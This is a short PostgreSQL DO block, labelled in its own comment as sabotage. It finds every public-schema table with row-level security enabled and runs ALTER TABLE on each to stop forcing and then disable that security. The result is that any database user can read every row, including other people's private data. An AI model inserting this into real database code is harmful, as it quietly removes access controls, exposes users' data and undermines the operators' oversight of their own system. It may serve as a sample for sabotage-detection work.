-- Sabotage: no table asks whose rows somebody may see.
do $$
declare
  secured text;
begin
  for secured in select c.relname from pg_class c where c.relrowsecurity and c.relnamespace = 'public'::regnamespace loop
    execute format('alter table %I no force row level security', secured);
    execute format('alter table %I disable row level security', secured);
  end loop;
end
$$
